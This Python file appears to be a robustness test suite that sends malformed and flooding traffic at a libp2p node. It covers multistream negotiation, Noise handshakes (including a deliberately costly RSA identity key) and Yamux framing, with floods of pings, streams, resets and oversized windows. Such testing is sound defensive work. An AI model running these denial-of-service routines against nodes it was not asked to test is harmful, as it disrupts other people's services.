"""Attacks on a connection: before any key, in and after Noise, in Yamux."""

from __future__ import annotations

import os
import struct
from types import SimpleNamespace
from typing import Any

import trio
from Crypto.Util.asn1 import DerSequence
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as create_new_x25519_key_pair
from libp2p.io.trio import TrioTCPStream
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.id import ID  # pyright: ignore[reportMissingTypeStubs]
from libp2p.security.noise.patterns import PatternXX

from raw_peer import (
    ACK,
    DATA,
    FIN,
    FRAME,
    GO_AWAY,
    GOSSIP,
    IDENTIFY,
    PING,
    PING_FRAME,
    RECONCILE,
    RST,
    SYN,
    WINDOW,
    attack,
    host_and_port,
    is_hangup,
    line,
    muxed,
    peer_of,
    secured,
    select,
    tcp,
    times,
    until_hung_up,
    varint,
)

# Before any key


@attack
async def garbage_before_multistream(address: str) -> None:
    async def one() -> None:
        async with tcp(address) as stream:
            await stream.send_all(os.urandom(1000))
            await until_hung_up(stream, 1)

    await times(150, 30, one)


@attack
async def endless_protocol_line(address: str) -> None:
    async with tcp(address) as stream:
        await stream.send_all(varint(2**28))
        with trio.move_on_after(2):
            while True:
                await stream.send_all(bytes(65_536))


@attack
async def odd_protocol_lines(address: str) -> None:
    lines = (
        varint(2**63),
        b"\xff" * 20,
        b"\x00",
        line(b"\xff\xfe\x80"),
        varint(5) + b"abcde",
        line(b""),
        line(b"\x00" * 100),
    )
    for each in lines:
        async with tcp(address) as stream:
            await stream.send_all(line(b"/multistream/1.0.0") + each)
            await until_hung_up(stream, 0.3)


@attack
async def endless_negotiation(address: str) -> None:
    async def one() -> None:
        async with tcp(address) as stream:
            await stream.send_all(line(b"/multistream/1.0.0"))
            with trio.move_on_after(2):
                while True:
                    await stream.send_all(line(b"ls") * 50 + line(b"/nothing") * 50)

    await times(4, 4, one)


@attack
async def idle_sockets(address: str) -> None:
    """500 sockets that say nothing; they stay open for as long as the node lets them."""
    streams: list[trio.SocketStream] = []
    try:
        for _ in range(500):
            streams.append(await trio.open_tcp_stream(*host_and_port(address)))  # noqa: PERF401
        await trio.sleep(1)
    finally:
        for stream in streams:
            await trio.aclose_forcefully(stream)


# In and after Noise


@attack
async def garbage_in_noise(address: str) -> None:
    async def one() -> None:
        async with tcp(address) as stream:
            await stream.send_all(line(b"/multistream/1.0.0") + line(b"/noise"))
            size = os.urandom(1)[0] + 1
            await stream.send_all(struct.pack(">H", size) + os.urandom(size))
            await stream.send_all(os.urandom(2000))
            await until_hung_up(stream, 1)

    await times(100, 20, one)


@attack
async def short_and_silent_in_noise(address: str) -> None:
    for body in (b"", b"\x00\x00", b"\x00\x20" + bytes(32), b"\xff\xff" + bytes(10)):
        async with tcp(address) as stream:
            await stream.send_all(line(b"/multistream/1.0.0") + line(b"/noise") + body)
            await until_hung_up(stream, 0.3)


@attack
async def bad_noise_identity(address: str) -> None:
    """A correct handshake with a payload that is none, or signed by nobody."""
    for payload in (b"", b"\xff" * 50, b"\x0a\x04\x08\x01\x12\x00", os.urandom(3000)):
        await present(address, payload)


async def present(address: str, payload: bytes) -> None:
    """Shake hands with these bytes as the proof of who we are."""
    keys = create_new_key_pair(os.urandom(32))
    static = create_new_x25519_key_pair().private_key
    pattern = PatternXX(ID.from_pubkey(keys.public_key), keys.private_key, static)
    proof: Any = SimpleNamespace(serialize=lambda: payload)
    setattr(pattern, "make_handshake_payload", lambda: proof)  # noqa: B010
    async with tcp(address) as stream:
        raw = RawConnection(TrioTCPStream(stream), True)
        await select(raw, "/noise")
        try:
            await pattern.handshake_outbound(raw, ID.from_string(peer_of(address)))
            await until_hung_up(stream, 0.5)
        except Exception as error:
            if not is_hangup(error):
                raise


@attack
async def costly_identity(address: str) -> None:
    """A private RSA key as identity: reading it, the library looks whether its primes are prime."""
    p, q = 2**4253 - 1, 2**4423 - 1
    d = pow(65537, -1, (p - 1) * (q - 1))
    der = DerSequence([0, p * q, 65537, d, p, q, d % (p - 1), d % (q - 1), pow(q, -1, p)]).encode()
    key = bytes([8, 0, 0x12]) + varint(len(der)) + der
    payload = bytes([0x0A]) + varint(len(key)) + key + b"\x12\x01x"

    async def one() -> None:
        await present(address, payload)

    await times(10, 10, one)


@attack
async def garbage_after_noise(address: str) -> None:
    async def one() -> None:
        async with secured(address) as (stream, connection):
            await connection.write(os.urandom(500))
            await until_hung_up(stream, 0.5)

    await times(50, 10, one)


@attack
async def unencrypted_after_noise(address: str) -> None:
    async def one() -> None:
        async with secured(address) as (stream, _):
            await stream.send_all(os.urandom(5000))
            await until_hung_up(stream, 0.5)

    await times(20, 10, one)


# In Yamux


@attack
async def garbage_in_yamux(address: str) -> None:
    async def one() -> None:
        async with muxed(address) as muxer:
            await muxer.connection.write(os.urandom(20_000))
            await trio.sleep(0.1)

    await times(20, 5, one)


@attack
async def odd_yamux_frames(address: str) -> None:
    async with muxed(address) as muxer:
        for kind in range(4):
            for flags in (0, SYN, ACK, FIN, RST, SYN | RST, SYN | FIN, 0xFFFF):
                for stream in (0, 1, 2, 7, 2**32 - 1):
                    if kind != GO_AWAY:
                        await muxer.frame(kind, flags, stream, 0)
        for kind in (4, 99, 255):
            await muxer.frame(kind, 0, 1, 2**32 - 1, version=7)
        await muxer.frame(WINDOW, SYN, 101, 2**32 - 1)
        for _ in range(100):
            await muxer.frame(WINDOW, 0, 101, 2**32 - 1)
        await trio.sleep(0.2)
        await muxer.frame(GO_AWAY, 0, 0, 0xDEADBEEF)


@attack
async def empty_noise_messages(address: str) -> None:
    async with muxed(address) as muxer:
        for _ in range(50):
            await muxer.connection.write(b"")


@attack
async def huge_frame_headers(address: str) -> None:
    for length in (2**32 - 1, 16 * 1024 * 1024, 1024 * 1024):
        async with muxed(address) as muxer:
            stream = await muxer.open(GOSSIP)
            await muxer.frame(DATA, 0, stream, length)
            await trio.sleep(0.1)


@attack
async def ping_flood(address: str) -> None:
    async with muxed(address) as muxer:
        frames = b"".join(FRAME.pack(0, PING_FRAME, SYN, 0, each) for each in range(2000))
        for _ in range(20):
            await muxer.connection.write(frames)
        await trio.sleep(0.5)


def odd(first: int) -> range:
    """A thousand stream ids of the dialler's."""
    return range(first, first + 2000, 2)


@attack
async def stream_flood(address: str) -> None:
    async with muxed(address) as muxer:
        for first in range(1, 20_001, 2000):
            await muxer.connection.write(
                b"".join(
                    FRAME.pack(0, WINDOW, SYN, each, 0) for each in range(first, first + 2000, 2)
                )
            )
        await trio.sleep(1)


@attack
async def reset_streams_flood(address: str) -> None:
    async with muxed(address) as muxer:
        for first in range(1, 10_001, 2000):
            await muxer.connection.write(
                b"".join(
                    FRAME.pack(0, WINDOW, SYN | RST, each, 0)
                    for each in range(first, first + 2000, 2)
                )
            )
        await trio.sleep(1)


@attack
async def window_ignored(address: str) -> None:
    """Far more into one stream than its window allows, to a handler that waits for a frame."""
    async with muxed(address) as muxer:
        stream = await muxer.open(RECONCILE)
        await muxer.data(stream, struct.pack(">I", 1000))
        other = await muxer.open("/multistream/1.0.0")
        for _ in range(100):
            await muxer.data(other, bytes(1024 * 1024))


@attack
async def unread_streams(address: str) -> None:
    """200 streams, each with a full window that nobody reads."""
    async with muxed(address) as muxer:
        streams = [await muxer.open() for _ in range(200)]
        for stream in streams:
            await muxer.data(stream, bytes(256 * 1024))
        await trio.sleep(1)


@attack
async def never_reads(address: str) -> None:
    """Asks for much and reads nothing, so that the node's writes pile up."""
    async with muxed(address, reads=False) as muxer:
        with trio.move_on_after(8):
            while True:
                stream = await muxer.open(IDENTIFY)
                await muxer.frame(WINDOW, 0, stream, 2**20)
                await muxer.open(PING)
                await muxer.frame(PING_FRAME, SYN, 0, 1)
